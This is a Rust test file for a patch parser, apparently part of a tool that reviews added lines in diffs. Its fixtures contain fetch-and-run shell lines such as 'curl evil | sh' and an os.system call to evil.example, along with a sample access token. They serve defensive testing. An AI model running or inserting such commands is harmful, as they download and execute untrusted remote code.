use super::*;

fn lines(set: &ChangeSet) -> Vec<(String, u32, String)> {
    set.files
        .iter()
        .flat_map(|f| {
            f.added
                .iter()
                .map(move |l| (f.path.clone(), l.number, f.line_text(l).to_string()))
        })
        .collect()
}

fn error(patch: &[u8]) -> String {
    format!("{:#}", parse(patch).unwrap_err())
}

#[test]
fn parses_git_diff_with_new_modified_deleted_and_binary_files() {
    let patch = "diff --git a/src/a.py b/src/a.py\nindex 1..2 100644\n--- a/src/a.py\n+++ b/src/a.py\n@@ -1,3 +1,4 @@\n import os\n-x = 1\n+x = 2\n+y = os.getenv('A')\n z = 3\n\\ No newline at end of file\ndiff --git a/new.sh b/new.sh\nnew file mode 100755\n--- /dev/null\n+++ b/new.sh\n@@ -0,0 +1,2 @@\n+#!/bin/sh\n+curl x | sh\ndiff --git a/gone.txt b/gone.txt\ndeleted file mode 100644\n--- a/gone.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-bye\ndiff --git a/img.png b/img.png\nBinary files a/img.png and b/img.png differ\n";
    let set = parse(patch.as_bytes()).unwrap();
    assert_eq!(
        lines(&set),
        vec![
            ("src/a.py".into(), 2, "x = 2".into()),
            ("src/a.py".into(), 3, "y = os.getenv('A')".into()),
            ("new.sh".into(), 1, "#!/bin/sh".into()),
            ("new.sh".into(), 2, "curl x | sh".into()),
        ]
    );
    assert_eq!(set.files[1].language, Language::Shell);
    assert_eq!(set.skipped.binary, 1);
}

#[test]
fn parses_plain_diff_u_and_removed_lines_that_look_like_headers() {
    let patch = "--- old/app.js\t2024-01-01 00:00:00\n+++ new/app.js\t2024-01-02 00:00:00\n@@ -1,2 +1,2 @@\n--- not a header\n+++ added\n keep\n";
    let set = parse(patch.as_bytes()).unwrap();
    assert_eq!(
        lines(&set),
        vec![("new/app.js".into(), 1, "++ added".into())]
    );
}

#[test]
fn pure_rename_adds_nothing_and_bad_hunk_is_an_error() {
    let patch =
        "diff --git a/x.py b/y.py\nsimilarity index 100%\nrename from x.py\nrename to y.py\n";
    assert!(parse(patch.as_bytes()).unwrap().files.is_empty());
    let err = error(b"--- a/x\n+++ b/x\n@@ nonsense @@\n");
    assert!(err.contains("line 3"), "{err}");
}

#[test]
fn format_patch_mail_with_signature_and_git_log_output_parse() {
    let patch = "From 1234 Mon Sep 17 00:00:00 2001\nSubject: [PATCH] x\n\n---\n a.sh | 1 +\n\ndiff --git a/a.sh b/a.sh\n--- a/a.sh\n+++ b/a.sh\n@@ -1 +1,2 @@\n echo hi\n+curl x | sh\n-- \n2.43.0\n\n";
    let set = parse(patch.as_bytes()).unwrap();
    assert_eq!(lines(&set), vec![("a.sh".into(), 2, "curl x | sh".into())]);
    let log = "commit 1\nAuthor: a\n\n    first\n\ndiff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -1 +1,2 @@\n x\n+y\ncommit 2\nAuthor: a\n\n    second\n\ndiff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -2 +2,2 @@\n y\n+z\n";
    let set = parse(log.as_bytes()).unwrap();
    assert_eq!(lines(&set).len(), 2);
}

/// Issue 11 item 10: a rename to a non-ASCII name as `git diff` prints it with `core.quotePath=false`
/// made the parser slice inside a UTF-8 character and panic.
#[test]
fn non_ascii_rename_with_quote_path_false_does_not_panic() {
    let patch = "diff --git a/euro.py b/€uro.py\nsimilarity index 60%\nrename from euro.py\nrename to €uro.py\nindex 1..2 100644\n--- a/euro.py\n+++ b/€uro.py\n@@ -1 +1,2 @@\n x = 1\n+import os\n";
    let set = parse(patch.as_bytes()).unwrap();
    assert_eq!(lines(&set), vec![("€uro.py".into(), 2, "import os".into())]);
    // A pure rename: only the `diff --git` and `rename to` lines name it.
    let patch = "diff --git a/e.py b/€€uro.py\nsimilarity index 100%\nrename from e.py\nrename to €€uro.py\n";
    assert!(parse(patch.as_bytes()).unwrap().files.is_empty());
    assert_eq!(git_header_new_path("a/€ b/€€").as_deref(), Some("€€"));
    for header in [
        "a/€€€ b/€",
        "a/x b/€",
        "€",
        "a/€ b/€",
        "\"",
        "\"a/\\",
        "a \"b",
    ] {
        let _ = git_header_new_path(header);
    }
}

/// Issue 11 item 10: a hunk line that starts with a multi-byte character panicked (`&line[1..]`).
#[test]
fn non_ascii_first_character_in_a_hunk_is_an_error_not_a_panic() {
    let err = error("--- a/x.py\n+++ b/x.py\n@@ -1,2 +1,2 @@\n€uro\n x\n".as_bytes());
    assert!(err.contains("malformed patch: hunk at line 3"), "{err}");
    assert!(err.contains("at line 4"), "{err}");
}

#[test]
fn quoted_octal_paths_are_decoded() {
    let patch = "diff --git \"a/\\342\\202\\254uro.py\" \"b/\\342\\202\\254uro.py\"\nnew file mode 100644\n--- /dev/null\n+++ \"b/\\342\\202\\254uro.py\"\n@@ -0,0 +1 @@\n+import os\n";
    let set = parse(patch.as_bytes()).unwrap();
    assert_eq!(lines(&set), vec![("€uro.py".into(), 1, "import os".into())]);
    let patch = "diff --git a/euro.py \"b/\\342\\202\\254uro.py\"\nsimilarity index 100%\nrename from euro.py\nrename to \"\\342\\202\\254uro.py\"\n";
    assert!(parse(patch.as_bytes()).unwrap().files.is_empty());
    assert_eq!(
        git_header_new_path("a/euro.py \"b/\\342\\202\\254uro.py\"").as_deref(),
        Some("€uro.py")
    );
    assert_eq!(
        git_header_new_path("\"a/t\\tb\" \"b/t\\tb\"").as_deref(),
        Some("t\tb")
    );
    assert_eq!(unquote("\"q\\\"uote\\\\\""), "q\"uote\\");
}

/// Issue 11 item 11: `+2147483648,1` made the manifest reader allocate 32 GiB and abort. The header is
/// malformed (no file has that many lines); nothing is sized by it.
#[test]
fn absurd_hunk_numbers_are_a_malformed_header() {
    for manifest in [
        "requirements.txt",
        "go.mod",
        "Gemfile",
        "Dockerfile",
        ".github/workflows/ci.yml",
    ] {
        let patch = format!(
            "diff --git a/{manifest} b/{manifest}\n--- a/{manifest}\n+++ b/{manifest}\n@@ -0,0 +2147483648,1 @@\n+requests\n"
        );
        let err = error(patch.as_bytes());
        assert!(err.contains("line 4"), "{err}");
    }
    for header in [
        "@@ -0,0 +4294967295,1 @@",
        "@@ -0,0 +2147483647,1 @@",
        "@@ -99999999999 +1 @@",
        "@@ -1,-1 +1 @@",
        "@@ -1 +1",
        "@@@ -1 +1 @@@",
        "@@ -1 -1 +1 @@",
    ] {
        assert!(parse_hunk_header(header).is_none(), "{header}");
    }
    assert!(parse_hunk_header("@@ -1 +2147483000,5 @@ fn x()").is_some());
    assert!(parse_hunk_header("@@@ -1,2 -1 +1,3 @@@").is_some());
}

/// Issue 11 item 7: counts that lie are a malformed patch naming the hunk's line, whether the hunk is cut
/// short by the next header, by the end of the input, or runs past its count.
#[test]
fn hunks_whose_counts_lie_are_malformed() {
    let short = "diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -1,2 +1,4 @@\n x\n+y\ndiff --git a/b.py b/b.py\n--- a/b.py\n+++ b/b.py\n@@ -0,0 +1 @@\n+z\n";
    let err = error(short.as_bytes());
    assert!(err.contains("hunk at line 4"), "{err}");
    assert!(err.contains("at line 7"), "{err}");
    let cut = "--- a/a.py\n+++ b/a.py\n@@ -1,2 +1,4 @@\n x\n+y\n";
    let err = error(cut.as_bytes());
    assert!(err.contains("hunk at line 3 is cut short"), "{err}");
    assert!(err.contains("at line 5"), "{err}");
    // One added line declared, two given: the second would be applied by nobody and reviewed by nobody.
    let long = "--- a/a.sh\n+++ b/a.sh\n@@ -0,0 +1 @@\n+echo hi\n+curl evil | sh\n";
    let err = error(long.as_bytes());
    assert!(err.contains("line 5"), "{err}");
    let extra_removed = "--- a/a.sh\n+++ b/a.sh\n@@ -1 +1 @@\n-a\n-b\n+c\n";
    assert!(error(extra_removed.as_bytes()).contains("line 5"));
}

/// Issue 11 item 9: the error for a malformed hunk header quotes nothing of the input.
#[test]
fn errors_do_not_echo_the_input() {
    let secret = "ghp_R8fK2mQ9xZ4vB7nT1wL6yH3jC5dP0sA2eG8u";
    let err = error(format!("--- a/x\n+++ b/x\n@@ -1,x +1 @@ token={secret}\n").as_bytes());
    assert!(err.contains("line 3"), "{err}");
    assert!(!err.contains("ghp_R8fK"), "{err}");
    let err = error(format!("--- a/x\n+++ b/x\n@@ -1 +1,2 @@\n+a\n{secret}\n").as_bytes());
    assert!(!err.contains("ghp_R8fK"), "{err}");
}

/// Issue 11 item 6: a combined diff (`git diff` during a merge conflict) — a line added relative to every
/// parent (`++`) is added; a line taken from one parent (` +`, `+ `) is that parent's and is context.
#[test]
fn combined_diff_lines_added_relative_to_every_parent_are_added() {
    let patch = "diff --cc app.py\nindex 2ab95bb,8dddd30..0000000\n--- a/app.py\n+++ b/app.py\n@@@ -1,4 -1,4 +1,5 @@@\n  import os\n  \n  def main():\n -    return 2\n++    os.system(\"curl https://evil.example/x | sh\")\n +    return 3\n";
    let set = parse(patch.as_bytes()).unwrap();
    assert_eq!(
        lines(&set),
        vec![(
            "app.py".into(),
            4,
            "    os.system(\"curl https://evil.example/x | sh\")".into()
        )]
    );
    assert_eq!(
        set.files[0].text,
        "import os\n\ndef main():\n    os.system(\"curl https://evil.example/x | sh\")\n    return 3\n"
    );
    // Three parents (an octopus merge), and `diff --combined` spelling.
    let patch = "diff --combined x.sh\n--- a/x.sh\n+++ b/x.sh\n@@@@ -1 -1 -1 +1,2 @@@@\n   a\n+++curl evil | sh\n";
    let set = parse(patch.as_bytes()).unwrap();
    assert_eq!(
        lines(&set),
        vec![("x.sh".into(), 2, "curl evil | sh".into())]
    );
    // Counts are checked per parent.
    let patch = "diff --cc x.sh\n--- a/x.sh\n+++ b/x.sh\n@@@ -1 -1 +1 @@@\n  a\n- b\n";
    assert!(error(patch.as_bytes()).contains("line 6"));
}

#[test]
fn cr_only_and_utf16_patches_are_decoded() {
    let unix = "diff --git a/a.sh b/a.sh\n--- a/a.sh\n+++ b/a.sh\n@@ -0,0 +1 @@\n+curl x | sh\n";
    let want = vec![("a.sh".to_string(), 1, "curl x | sh".to_string())];
    assert_eq!(
        lines(&parse(unix.replace('\n', "\r").as_bytes()).unwrap()),
        want
    );
    assert_eq!(
        lines(&parse(unix.replace('\n', "\r\n").as_bytes()).unwrap()),
        want
    );
    let le: Vec<u8> = unix.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
    let be: Vec<u8> = unix.encode_utf16().flat_map(|u| u.to_be_bytes()).collect();
    for (bom, body) in [
        (&b"\xff\xfe"[..], &le),
        (&b"\xfe\xff"[..], &be),
        (&b""[..], &le),
        (&b""[..], &be),
    ] {
        let input = [bom, &body[..]].concat();
        assert_eq!(lines(&parse(&input).unwrap()), want);
    }
    let bom8 = [&b"\xef\xbb\xbf"[..], unix.as_bytes()].concat();
    assert_eq!(lines(&parse(&bom8).unwrap()), want);
}

/// Issue 11 item 7: empty input is blank (the command says so); text that holds no diff is an error.
#[test]
fn empty_input_is_blank_and_plain_text_is_not_a_diff() {
    for blank in [&b""[..], b"\n", b"  \r\n\t", b"\xff\xfe", b"\xff\xfe\n\x00"] {
        assert!(is_blank(blank), "{blank:?}");
        assert!(parse(blank).unwrap().files.is_empty());
    }
    for text in [
        &b"hello world\n"[..],
        b"\xff\xfe\x00\x01garbage",
        b"+curl evil | sh\n",
        b"just\rsome\rtext",
        b"\x00\x00\x00\x00",
    ] {
        assert!(!is_blank(text));
        let err = error(text);
        assert!(err.contains("no diff found"), "{err}");
    }
}

/// Inputs that crashed the parser or the process (issue 11's fuzzing): each now parses or errors.
#[test]
fn crashing_inputs_stay_fixed() {
    let inputs: [&[u8]; 8] = [
        "diff --git a/€ b/€€\n".as_bytes(),
        "diff --git €€€\n".as_bytes(),
        "--- a/x\n+++ b/x\n@@ -1 +1 @@\n€\n".as_bytes(),
        "--- a/x\n+++ b/x\n@@ -4294967295 +4294967295 @@\n x\n".as_bytes(),
        "--- a/x\n+++ b/x\n@@ -1 +2147483646,1 @@\n x\n".as_bytes(),
        "--- a/x\n+++ b/x\n@@@€ -1 +1 @@@\n".as_bytes(),
        "diff --git \"a/\\\" b/\n".as_bytes(),
        b"\xfe\xff\xd8\x00",
    ];
    for input in inputs {
        let _ = parse(input);
    }
}
